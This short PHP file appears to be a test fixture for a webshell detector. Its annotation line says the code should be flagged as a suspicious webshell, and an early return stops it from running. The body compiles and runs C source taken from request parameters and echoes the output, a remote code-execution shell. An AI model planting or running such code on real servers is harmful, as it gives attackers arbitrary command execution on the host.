<?php return; // want: suspicious webshell php.command.written
$all = array_merge($_POST, $_GET);
$name = md5(time());
if (file_put_contents($name . '.c', $all['source'])) {
	$out = run('gcc ' . $name . '.c -o ' . $name);
	$out .= run('./' . $name);
	echo '<pre>', $out, '</pre>';
	for ($i = 0; $i < 3; $i++)
		echo 'Compiled and run: ', $name, ', ', $i, ' of ', 3, '<br>';
}
function run($what)
{
	exec($what . ' 2>&1', $lines);
	return implode("\n", $lines);
}
